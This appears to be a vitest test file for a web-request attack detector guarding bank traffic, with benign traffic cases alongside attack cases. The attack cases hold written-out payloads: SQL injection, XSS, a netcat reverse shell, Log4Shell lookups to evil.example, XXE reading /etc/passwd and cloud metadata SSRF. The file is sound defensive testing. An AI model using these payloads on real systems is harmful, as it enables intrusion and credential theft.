import { describe, expect, it } from 'vitest';
import { base64Text, deepDecode, percentDecode } from './decode.js';
import { detectAttacks, sqlFingerprint, type AttackClass, type AttackRequest } from './index.js';

const get = (url: string, headers: [string, string][] = []): AttackRequest => ({ method: 'GET', url, headers });
const post = (url: string, body: string, contentType: string, headers: [string, string][] = []): AttackRequest => ({ method: 'POST', url, headers: [['content-type', contentType], ...headers], body });
const q = (v: string): AttackRequest => get(`/api/search?q=${encodeURIComponent(v)}`);
const json = (o: unknown): AttackRequest => post('/api/v1/transfer', JSON.stringify(o), 'application/json');

interface Case {
  name: string;
  req: AttackRequest;
}
const positives: Record<AttackClass, Case[]> = {
  sqli: [
    { name: 'tautology after quote', req: q("1' or '1'='1") },
    { name: 'numeric tautology', req: q('1 or 1=1') },
    { name: 'comment after quote', req: q("admin'--") },
    { name: 'union select', req: q('-1 UNION/**/ALL SELECT username,password FROM users') },
    { name: 'stacked query', req: q("1'; DROP TABLE users--") },
    { name: 'time delay', req: q("1' AND SLEEP(5)#") },
    { name: 'mysql executable comment', req: q('1 /*!50000union*/ /*!50000select*/ 1,2') },
    { name: 'double url-encoded', req: get('/a?id=1%2527%2520or%25201%253D1--') },
    { name: 'unicode escaped in JSON', req: post('/a', '{"name":"x\\u0027 or 1=1--"}', 'application/json') },
    { name: 'in a cookie', req: get('/', [['cookie', "sid=abc; lang=1' or '1'='1"]]) },
    { name: 'base64 value', req: q(Buffer.from("1' union select password from users--").toString('base64')) },
    { name: 'mongo operator in name', req: get('/login?user[$ne]=x') },
    { name: 'integer overflow probe', req: get('/a?n=4294967296') },
    { name: 'double overflow probe', req: get('/a?n=1e309') },
    { name: 'strtod probe as a JSON name', req: post('/', '{ "2.2250738585072011e-308":"foo" }', 'application/json') },
    { name: 'user variable assignment', req: q('@a:=(select 1)') },
    { name: 'subquery on a qualified table', req: q('right((select user_login from wordpress.wp_users limit 1,1),1)') },
    { name: 'backtick break and end of statement', req: q('admin@juice-sh.op`;') },
  ],
  xss: [
    { name: 'script tag', req: q('<script>alert(1)</script>') },
    { name: 'event handler', req: q('<img src=x onerror=alert(1)>') },
    { name: 'svg onload with slash', req: q('<svg/onload=alert(1)>') },
    { name: 'javascript url with entities', req: q('<a href="jav&#x09;ascript:alert(1)">x</a>') },
    { name: 'attribute break', req: q('" onmouseover="alert(1)') },
    { name: 'document.cookie with comments', req: q('document/**/.cookie') },
    { name: 'html-entity encoded in form', req: post('/c', 'text=%26lt%3Bscript%26gt%3Balert(1)%26lt%3B%2Fscript%26gt%3B', 'application/x-www-form-urlencoded') },
    { name: 'in JSON body', req: json({ remark: '<iframe src="javascript:alert(1)">' }) },
    { name: 'gaps in a tag name', req: q('<f o r m action=x>') },
    { name: 'namespace behind blanks', req: q('< x: script') },
    { name: 'event handler after quotes', req: q('<"onwebkitplaybacktargetavailabilitychanged=') },
    { name: 'xml entity declaration in a header', req: get('/', [['user-agent', 'foo!ENTITY % bar SYSTEM']]) },
    { name: 'xinclude in a parameter', req: q('<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="http://evil.example/"/></x>') },
    { name: 'external schema location', req: q('<a xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://a.b/ http://evil.example/a.xsd">a</a>') },
    { name: 'server-side include', req: q('--><!--#echo var="DOCUMENT_ROOT"-->') },
    { name: 'us-ascii tags', req: q('\u00bcscript\u00bealert(1)\u00bc/script\u00be') },
    { name: 'data url with markup', req: q('data: , <x>') },
    { name: 'es module import', req: q('import { a } from "./x.js";') },
    { name: 'optional call', req: q('alert?.(document?.cookie)') },
    { name: 'call on a sink', req: q('confirm.call(null,1)') },
    { name: 'base64 path segment', req: get('/api/' + Buffer.from('<img src=x onerror=alert(1)>').toString('base64url')) },
  ],
  'path-traversal': [
    { name: 'dot-dot to passwd', req: q('../../../../etc/passwd') },
    { name: 'encoded backslashes', req: get('/download?file=..%5c..%5cwindows%5cwin.ini') },
    { name: 'overlong utf-8', req: get('/download?file=%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd') },
    { name: 'php filter', req: q('php://filter/convert.base64-encode/resource=index.php') },
    { name: 'WEB-INF', req: get('/download?f=WEB-INF/web.xml') },
    { name: 'unc path to an admin share', req: q('\\\\::1\\c$\\users\\default\\ntuser.dat') },
    { name: 'git config in path', req: get('/.git/config') },
  ],
  'command-injection': [
    { name: 'semicolon cat', req: q('1; cat /etc/passwd') },
    { name: 'pipe to shell', req: q('x | nc -e /bin/sh 10.0.0.1 4444') },
    { name: 'substitution', req: q('$(whoami)') },
    { name: 'backticks', req: q('`id`') },
    { name: 'IFS evasion', req: q(';c\\at${IFS}/etc/passwd') },
    { name: 'shellshock in header', req: get('/', [['x-forwarded-host', '() { :; }; /bin/bash -c "id"']]) },
    { name: 'windows cmd', req: q('& cmd.exe /c dir') },
    { name: 'powershell', req: q('powershell -enc ZQBjAGgAbwA=') },
    { name: 'empty-name parameter expansion', req: json({ foo: '${:1337:-x$}{jndi:ldap://evil.example/a}' }) },
    { name: 'tool name as a JSON member name', req: post('/', '{ "aa-disable php-fpm":"foo" }', 'application/json') },
    { name: 'config upload', req: post('/up', '--b\r\nContent-Disposition: form-data; name="f"; filename="config.yml"\r\n\r\na: 1\r\n--b--\r\n', 'multipart/form-data; boundary=b') },
    { name: 'kernel file name upload', req: post('/up', 'x', 'application/octet-stream', [['x-filename', 'mtrr']]) },
  ],
  ssrf: [
    { name: 'aws metadata', req: q('http://169.254.169.254/latest/meta-data/') },
    { name: 'aliyun metadata', req: json({ callbackUrl: 'http://100.100.100.200/latest/meta-data/ram/security-credentials/' }) },
    { name: 'loopback decimal', req: get('/fetch?url=http://2130706433/admin') },
    { name: 'userinfo trick', req: get('/fetch?url=' + encodeURIComponent('http://bank.example@127.0.0.1:8080/')) },
    { name: 'gopher', req: q('gopher://10.0.0.5:6379/_INFO') },
    { name: 'ipv6 loopback', req: q('http://[::1]/') },
  ],
  xxe: [
    { name: 'external entity', req: post('/soap', '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>', 'application/xml') },
    { name: 'parameter entity', req: post('/soap', '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil/x.dtd"> %p;]><r/>', 'text/xml') },
  ],
  'expression-injection': [
    { name: 'log4shell', req: get('/', [['user-agent', '${jndi:ldap://evil.example/a}']]) },
    { name: 'nested lookups', req: q('${${lower:j}${upper:n}${::-d}i:rmi://x/y}') },
    { name: 'env default', req: q('${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x/}') },
    { name: 'spel', req: q("T(java.lang.Runtime).getRuntime().exec('id')") },
    { name: 'ognl', req: q("%{(#_memberAccess['allowStaticMethodAccess']=true)}") },
    { name: 'ssti probe', req: q('{{7*7}}') },
    { name: 'jinja escape', req: q("{{''.__class__.__mro__[1].__subclasses__()}}") },
    { name: 'struts content-type', req: post('/upload', 'x', "%{(#nike='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}") },
  ],
  scanner: [
    { name: 'sqlmap UA', req: get('/', [['user-agent', 'sqlmap/1.7.2#stable (https://sqlmap.org)']]) },
    { name: 'nuclei UA', req: get('/', [['user-agent', 'Mozilla/5.0 (compatible; Nuclei - Open-source project)']]) },
    { name: 'probe path', req: get('/wp-login.php') },
    { name: 'burp collaborator', req: q('http://abc123.oastify.com') },
    { name: 'acunetix header', req: get('/', [['acunetix-product', 'WVS/13']]) },
  ],
};

const negatives: Case[] = [
  { name: 'Chinese text', req: json({ remark: '转账给张三，备注：房租（三月）；谢谢！', name: '王小明' }) },
  { name: "O'Brien", req: json({ lastName: "O'Brien", company: "McDonald's" }) },
  { name: 'quotes in JSON', req: json({ memo: 'He said "select the best option" and left', note: "It's a 'great' deal" }) },
  { name: 'price range', req: get('/api/products?price=1-2&sort=-price&range=10-20') },
  { name: 'select a card', req: q('select a card from the list') },
  { name: 'drop-down', req: q('drop-down menu, update my address, delete from cart') },
  { name: 'union bank', req: q('Union Bank of India; or 1 and 2') },
  { name: 'avatar URL', req: json({ avatarUrl: 'https://cdn.bank.example/u/123/avatar.png?v=2', homepage: 'http://example.com/a/b' }) },
  { name: 'escaped rich text', req: json({ html: '&lt;p&gt;Hello &amp; welcome&lt;/p&gt;', rich: '<p><b>Bold</b> and <a href="https://bank.example/help">help</a></p>' }) },
  { name: 'base64 image', req: json({ image: 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==' }) },
  { name: 'raw base64 binary', req: json({ file: 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==' }) },
  { name: 'JWT', req: get('/api/me', [['authorization', 'Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.abc'], ['x-token', 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.c2lnbmF0dXJl']]) },
  { name: 'dates and emails', req: get('/api/tx?from=2024/01/01&to=2024/12/31&email=li.lei%40example.com') },
  { name: 'browser UA', req: get('/', [['user-agent', 'Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 MicroMessenger/8.0'], ['referer', 'https://bank.example/app/#/home?tab=1']]) },
  { name: 'template placeholder', req: json({ sms: '尊敬的{{name}}，您的验证码是{{code}}' }) },
  { name: 'search text with words', req: q('how to ping customer service, echo balance, cat food | toys') },
  { name: 'windows-ish path in note', req: json({ note: 'see C:\\Users\\me\\Documents\\report.xlsx' }) },
  { name: 'relative link', req: json({ link: '../help/faq.html' }) },
  { name: 'internal-looking words', req: json({ host: 'localhost is not a URL', ip: '10.0.0.1' }) },
  { name: 'form with ampersands', req: post('/f', 'name=Tom+%26+Jerry&amount=1%2C000.00&note=50%25+off', 'application/x-www-form-urlencoded') },
  { name: 'graphql query', req: json({ query: 'query { account(id: "123") { balance transactions(first: 10) { amount } } }' }) },
  { name: 'javascript as a word', req: q('JavaScript: Basics of JavaScript Language') },
  { name: 'SOAP envelope in a parameter', req: q('<?xml version="1.0"?><SOAP-ENV:Envelope xmlns:SOAP-ENV="http://www.w3.org/2001/12/soap-envelope"><SOAP-ENV:Body><m:Get>1</m:Get></SOAP-ENV:Body></SOAP-ENV:Envelope>') },
  { name: 'schema location on w3.org', req: q('<a xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://www.w3.org/1999/xhtml http://www.w3.org/2002/08/xhtml/xhtml1-strict.xsd">a</a>') },
  { name: 'fractions in a recipe', req: q('\u00bc cup sugar, \u00be cup flour') },
  { name: 'comparisons in text', req: q('if a < b and c > d then 1 < 2') },
  { name: 'JSON member names with spaces', req: post('/', '{"First Name":"Li","Last Name":"Lei","Pay for order":"yes"}', 'application/json') },
  { name: 'amounts and ids', req: json({ amount: '4294967.29', id: '1234567890123' }) },
  { name: 'hex digest in path', req: get('/api/files/3f786850e387550fdab836ed7e6dc881de23001b') },
];

describe('detectAttacks', () => {
  for (const [cls, cases] of Object.entries(positives) as [AttackClass, Case[]][]) {
    describe(cls, () => {
      for (const c of cases)
        it(`detects ${c.name}`, () => {
          const hits = detectAttacks(c.req);
          expect(hits.map((h) => h.class), JSON.stringify(hits)).toContain(cls);
          for (const h of hits) expect(h.sample.length).toBeLessThanOrEqual(64);
        });
    });
  }
  describe('benign bank traffic', () => {
    for (const c of negatives)
      it(`passes ${c.name}`, () => {
        expect(detectAttacks(c.req)).toEqual([]);
      });
  });

  it('names the location', () => {
    const hits = detectAttacks(post('/api?id=1', JSON.stringify({ user: { name: "x' or '1'='1" } }), 'application/json'));
    expect(hits).toEqual([expect.objectContaining({ class: 'sqli', location: 'body.user.name' })]);
    expect(detectAttacks(get('/a?id=1%20union%20select%201,2'))[0]).toMatchObject({ class: 'sqli', location: 'query.id' });
    expect(detectAttacks(get('/', [['cookie', 'x=<script>alert(1)</script>']]))[0]).toMatchObject({ class: 'xss', location: 'cookie.x' });
  });

  it('answers a repeated header value from its memo as the first time, per header name, past the memo bounds', () => {
    const ua: [string, string] = ['user-agent', 'sqlmap/1.7.2#stable (https://sqlmap.org)'];
    const first = detectAttacks(get('/a', [ua]));
    expect(first.map((h) => h.class)).toContain('scanner');
    expect(detectAttacks(get('/b', [ua]))).toEqual(first);
    // the same value under another header name is judged for that name
    expect(detectAttacks(get('/a', [['x-note', ua[1]]])).map((h) => h.class)).not.toContain('scanner');
    // more names and values than the memo holds: every one still scanned
    for (let i = 0; i < 3000; i++) {
      const hits = detectAttacks(get('/c', [[`x-h${i}`, `1' or '${i}'='${i}`]]));
      expect(hits.map((h) => [h.class, h.location]), `x-h${i}`).toContainEqual(['sqli', `header.x-h${i}`]);
    }
    expect(detectAttacks(get('/b', [ua]))).toEqual(first);
  });

  it('caps the work per request', () => {
    const many = Array.from({ length: 500 }, (_, i) => `p${i}=${encodeURIComponent("1' or '1'='1")}`).join('&');
    const hits = detectAttacks(get('/a?' + many), { maxValues: 10 });
    expect(hits.length).toBeLessThanOrEqual(10);
    expect(detectAttacks(q("1' or '1'='1"), { classes: ['xss'] })).toEqual([]);
  });
});

describe('sql fingerprints', () => {
  it.each([
    ["1' or '1'='1", "'", 's&sos'],
    ['1 union select 1', '', '1UE1'],
    ["admin'--", "'", 'sc'],
    ["O'Brien", "'", 'sn'],
  ])('%s in context %s → %s', (v, ctx, want) => {
    expect(sqlFingerprint(v, ctx as '' | "'")).toBe(want);
  });
});

describe('decoding', () => {
  it('percent, %u, overlong, entities, escapes', () => {
    expect(percentDecode('a+b%20c', true)).toBe('a b c');
    expect(percentDecode('%u003cx', false)).toBe('<x');
    expect(percentDecode('%c0%ae%c0%af', false)).toBe('./');
    expect(deepDecode('%2526lt%253B')).toBe('<');
    expect(deepDecode('\\u0027 or \\x31')).toBe("' or 1");
    expect(deepDecode('&#x3C;&#60&lt;')).toBe('<<<');
  });
  it('base64 only when clearly text', () => {
    expect(base64Text(Buffer.from("' or 1=1 -- comment").toString('base64'))).toBe("' or 1=1 -- comment");
    expect(base64Text('iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB')).toBeUndefined();
    expect(base64Text('transactionHistory')).toBeUndefined();
  });
});

describe('what bank traffic carries', () => {
  it('passes opaque tokens (ciphertext, signatures) whose letters make words by chance', () => {
    const cipher = 'VaITz3pjgEpQBTdEyZVJgPg7J51xXWvo1CCOimjFijDsakmqABalTzVHqMfrOF7ufYz+51U7PkYw0jG7HOS/iXYoi6XzMBOaZmeNl2PQXoAxQiaf8DklgDPVT/RWZR5OKVpAJ998yuB7NYJW0Yq2KXLXSxTYV7/O/Ynujia+ls/id=';
    expect(detectAttacks(json({ loginName: '13812345678', password: cipher }))).toEqual([]);
    expect(detectAttacks(post('/ebank/transfer/submit.do', `usbKeySign=${encodeURIComponent('9P2ZARPL4J+61VRDA8M7Y4F+69M13M+SEV3JGINI5PV6D2IJL0T0T//1/IXWCNO2HW3L+AS6B0CZGFZQL6TT5+HA')}`, 'application/x-www-form-urlencoded'))).toEqual([]);
    // a long single-case run of base64 characters is still examined (no mixed case and digits)
    expect(detectAttacks(q('/get/proc/interrupts/get/proc/interrupts')).map((h) => h.class)).toContain('path-traversal');
  });
  it('reads JSON inside a JSON string field by field', () => {
    const biz = (v: string): AttackRequest => json({ app_id: '2024031500000103', biz_content: JSON.stringify({ name: '张三', scene: v }), sign: 'BzVaCl072QPeZIQSihXLhIlTdeX02KCkWigMUZ1zfEE=' });
    expect(detectAttacks(biz('BIND_CARD'))).toEqual([]);
    expect(detectAttacks(biz("1' or '1'='1"))).toMatchObject([{ class: 'sqli', location: 'body.biz_content.scene' }]);
  });
  it('takes `//host` for a URL only where a value starts, with a host that looks like one', () => {
    expect(detectAttacks(json({ callback: '//169.254.169.254/latest/meta-data' })).map((h) => h.class)).toEqual(['ssrf']);
    expect(detectAttacks(json({ sig: 'AB3dEf//1/xYz0AB3dEf' }))).toEqual([]);
  });
});
